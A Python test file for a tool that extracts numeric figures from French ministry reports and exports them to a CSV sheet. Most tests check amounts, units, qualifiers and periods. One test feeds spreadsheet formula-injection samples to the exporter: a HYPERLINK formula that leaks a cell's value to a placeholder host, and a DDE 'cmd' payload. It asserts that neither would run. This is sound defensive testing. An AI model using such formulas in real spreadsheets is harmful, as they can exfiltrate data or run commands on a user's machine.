"""Figure candidates: what an article counts is proposed, what only looks like a number is not."""

from __future__ import annotations

import csv
import tempfile
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ingestion import contracts
from ingestion.candidates import Candidate, Paragraph, propose, sheet
from ingestion.french import format_number, number_in_words
from ingestion.read import transcription
from ingestion.text import would_run


def candidates(*texts: str) -> list[Candidate]:
    return propose(Paragraph(number, text) for number, text in enumerate(texts, 1))


def values(text: str) -> list[tuple[str, str, str | None]]:
    return [
        (one.literal, "?" if one.value is None else f"{one.value:f}", one.unit_code)
        for one in candidates(text)
    ]


# --- one category, several labels ----------------------------------------------------------------------


def test_a_category_that_is_called_otherwise_elsewhere_is_said_with_both_places() -> None:
    found = candidates(
        "Structures : Santé (03), PME/PMI (03) et autres secteurs et administrations (02).",
        "Autres structures et administrations | 13 | 472",
        "Autres secteurs et administrations (07), Secteur Santé (12).",
    )
    first, second = "« autres secteurs et administrations »", "« Autres structures et administrations »"
    said = [(one.value, remark) for one in found for remark in one.remarks if "même catégorie" in remark]
    assert said == [
        (2, f"{first} : même catégorie que {second} (§2)"),
        (13, f"{second} : même catégorie que {first} (§1)"),
        (472, f"{second} : même catégorie que {first} (§1)"),
        (7, f"« Autres secteurs et administrations » : même catégorie que {second} (§2)"),
    ]


# --- what is no figure ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Un atelier s'est tenu les 19\u00a0 23 mars 2015 à Kayes.",
        "La rencontre des 15, 16 et 17 juin 2017 a suivi celle du 08 au 10 décembre 2015.",
        "Le texte du 03 septembre 2014 vaut pour 2015-2019 ; relu en octobre 2016, puis le 15/10/2017.",
        "Renseignements au 20 22 21 26, au +223 76 12 34 56 ou tél. : 66 77 88 99.",
        "Voir l'article 12 de la loi n° 2015-038, l'ordonnance n°2015-038/P-RM et les articles 3 et 4.",
        "La 6e conférence ouvre la 2ème phase du XXIe siècle, le 1er janvier.",
        "3- Appui aux associations",
        "COVID-19, G5 Sahel, 18h30, 08:00, http://exemple.ml/2016/12 et contact12@exemple.ml",
        "Ces trois dernières années, les services ont aidé des familles.",
        "Un ministre, deux réunions et une visite.",
        "Une feuille A4, page 7, tableau 3, BP 245.",
    ],
)
def test_what_only_looks_like_a_number_is_not_proposed(text: str) -> None:
    assert values(text) == []


# --- what is -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Ils ont envoyé 483,3 milliards de francs CFA.", [("483,3 milliards", "483.3", "BN_XOF")]),
        ("Soit 737 millions d’euros.", [("737 millions", "737", "M_EUR")]),
        ("Un coût de 300\u00a0601 889 FCFA.", [("300\u00a0601 889", "300601889", "XOF")]),
        ("La part atteint 14.81% en tout.", [("14.81", "14.81", "PCT")]),
        ("L’Afrique compte 3,5 millions de Maliens.", [("3,5 millions", "3500000.0", "PERSONS")]),
        ("Il y a quatorze (14) antennes.", [("quatorze (14)", "14", "ANTENNAS")]),
        (
            "Ce sont trois cents sept logements (307).",
            [("trois cents sept logements (307)", "307", "DWELLINGS")],
        ),
        ("Venus de vingt quatre pays.", [("vingt quatre", "24", "COUNTRIES")]),
        ("Agriculture (02) et Santé (12).", [("(02)", "2", None), ("(12)", "12", None)]),
        ("Trois jours pour trois cent (300) délégués.", [("trois cent (300)", "300", "PERSONS")]),
        ("La base passe de 466 à 557 experts.", [("466", "466", "PERSONS"), ("557", "557", "PERSONS")]),
        ("Les demandes reçues étaient de 8515.", [("8515", "8515", "DOCUMENTS")]),
        ("Il reste 2016 logements à bâtir.", [("2016", "2016", "DWELLINGS")]),
        ("Education | 154 | 9 025", [("154", "154", None), ("9 025", "9025", None)]),
    ],
)
def test_figures_are_proposed_with_value_and_unit(
    text: str, expected: list[tuple[str, str, str | None]]
) -> None:
    assert values(text) == expected


@pytest.mark.parametrize(
    ("text", "literal", "qualifier"),
    [
        ("près de 8000 maliens", "près de 8000", "≈"),
        ("plus de quatre de millions de personnes", "plus de quatre de millions", ">"),
        ("les délégués de plus cinquante (50) pays", "plus cinquante (50)", ">"),
        ("au-delà de 50 %", "au-delà de 50", ">"),
        ("moins de 12 projets", "moins de 12", "<"),
        ("exactement 12 projets", "12", "="),
    ],
)
def test_a_qualifier_is_part_of_the_literal(text: str, literal: str, qualifier: str) -> None:
    [one] = candidates(text)
    assert (one.literal, one.qualifier) == (literal, qualifier)


@pytest.mark.parametrize("text", ["entre 10 à 12 % des parts", "entre 10 et 12 %", "10-12 %", "de 10 à 12 %"])
def test_a_range_is_proposed_for_decision(text: str) -> None:
    [one] = candidates(text)
    assert (one.value, one.unit_code, one.remarks) == (None, "PCT", ("intervalle de 10 à 12 : à décider",))


@pytest.mark.parametrize(
    ("text", "remark"),
    [
        ("quatre cents milliards (400 000 000 0000) de FCFA", "lettres et chiffres en désaccord"),
        ("trente (40) projets", "lettres et chiffres en désaccord"),
        ("un lot de 12 34 567 kits", "chiffres mal groupés"),
        ("un total de 4.774 adultes", "point décimal ou séparateur de milliers"),
        ("au moins 300 migrants", "« au moins » : qualificatif à décider"),
        ("497,7 milliards prévus", "monnaie non dite, FCFA supposé"),
    ],
)
def test_what_is_doubtful_is_said(text: str, remark: str) -> None:
    assert any(said.startswith(remark) for one in candidates(text) for said in one.remarks)


@pytest.mark.parametrize(
    ("text", "periods"),
    [
        ("En 2016, 12 projets ; une projection de 15 projets pour 2017.", ["2016", "2017"]),
        ("De 466 au 31 décembre 2012 à 557 au 31 décembre 2016.", ["2012-12-31", "2016-12-31"]),
        ("Du 1er janvier 2013 au 31 décembre 2016, 200 missions.", ["2013/2016"]),
        ("Au 1er trimestre 2016, 25 retours ; en mars 2016, 30 retours.", ["2016-Q1", "2016-03"]),
        ("Un plan de 120 milliards de FCFA pour la période 2015-2019.", ["2015/2019"]),
        ("Ces quatres dernières années, 8000 retours.", [None]),
        ("Pour la période sous revue, 91 candidats.", [None]),
    ],
)
def test_the_period_is_that_of_the_sentence(text: str, periods: list[str | None]) -> None:
    found = candidates(text)
    assert [one.period_code for one in found] == periods
    for one in found:
        assert (one.period_code is None) == any(said.startswith("période ambiguë") for said in one.remarks)


def test_a_projection_is_one_and_an_estimate_too() -> None:
    found = candidates(
        "Une projection de 15 projets. Les pertes sont estimées à 12 personnes. Il y a 3 projets."
    )
    assert [one.obs_status for one in found] == ["F", "E", None]


def test_a_passage_printed_twice_is_proposed_once() -> None:
    passage = "Le bilan compte 264 projets pour 800 emplois."
    assert [one.paragraph for one in candidates(passage, "Autre chose.", passage)] == [1, 1]


def test_a_number_repeated_in_its_paragraph_is_quoted_at_length() -> None:
    found = candidates("Santé (03), PME/PMI (03).")
    assert [one.literal for one in found] == ["Santé (03)", "PME/PMI (03)"]


def test_a_measure_is_suggested_when_its_words_are_there() -> None:
    paragraph = Paragraph(1, "Les demandes de passeports reçues étaient de 8515.")
    assert [one.measure_code for one in propose([paragraph])] == ["passport_requests"]
    assert [one.measure_code for one in candidates("Il y avait 8515 chaises.")] == [None]


@given(st.integers(11, 999_999_999).filter(lambda n: not 1900 <= n <= 2099))
def test_any_number_is_read_as_it_was_printed(number: int) -> None:
    [one] = candidates(f"Le total est de {format_number(number)} FCFA.")
    assert (one.value, one.unit_code) == (Decimal(number), "XOF")


@given(st.integers(2, 999_999))
def test_words_and_digits_that_agree_are_one_figure(number: int) -> None:
    [one] = candidates(f"Il y a {number_in_words(number)} ({format_number(number)}) projets.")
    assert (one.value, one.unit_code, one.remarks) == (Decimal(number), "PROJECTS", ())


@given(st.integers(2, 999), st.integers(2, 999))
def test_words_and_digits_that_disagree_have_no_value(words: int, digits: int) -> None:
    [one] = candidates(f"Il y a {number_in_words(words)} ({digits}) projets.")
    assert (one.value is None) == (words != digits)


@given(st.text(alphabet=st.sampled_from("0123456789 \u00a0.,-()%/ancd’eét2016 milors"), max_size=80))
def test_no_text_breaks_the_search_and_every_literal_stands_in_its_place(text: str) -> None:
    for one in candidates(text):
        assert text[one.start : one.end] == one.literal


@given(st.text(alphabet=st.sampled_from('=+-@\uff1d\uff0b;, \u00a0"|!A0()8,5é'), min_size=1, max_size=20))
@example('=HYPERLINK("http://x.invalid/"&J8;"voir")&(15)')
@example("=cmd|'/C_calc'!A0+(15)")
@example("-8,79")
def test_a_literal_runs_nothing_in_a_spreadsheet_and_comes_back_as_it_was(printed: str) -> None:
    contract = contracts.load("ministry.figures")
    [proposed] = candidates("41 projets")
    text = sheet("bilan", [replace(proposed, literal=printed, value=Decimal("-1.5"))], contract)
    for delimiter in ";,\t":
        cells = [cell for row in csv.reader(text.splitlines(), delimiter=delimiter) for cell in row]
        assert not any(would_run(cell) for cell in cells), delimiter
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "fiche.csv"
        file.write_text(text, encoding="utf-8-sig", newline="")
        [record] = transcription.read(file, **contracts.reader_options(contract))
    assert record.literal == (printed.strip(" \u00a0") or None)
    assert record.values["value"] == "-1,5"


def test_the_sheet_is_the_one_that_the_contract_reads() -> None:
    contract = contracts.load("ministry.figures")
    text = sheet("bilan", candidates("En 2016, près de 8000 personnes.", "-3,5 % de pertes"), contract)
    lines = [line.split(";") for line in text.split("\r\n")]
    assert lines[1] == ["Article", "bilan"]
    header, first = lines[4], dict(zip(lines[4], lines[5], strict=True))
    assert set(contract.form.options["columns"]) < set(header)
    assert (first["Valeur"], first["Unité"], first["Qualificatif"], first["Période"]) == (
        "8\u00a0000",
        "PERSONS",
        "environ",
        "2016",
    )
    assert (first["Mesure"], first["Littéral"], first["Paragraphe"]) == ("", "près de 8000", "1")
    assert first["Contexte"].startswith("… ")
    assert text.encode("cp1252").decode("cp1252") == text, "as a French spreadsheet saves it"
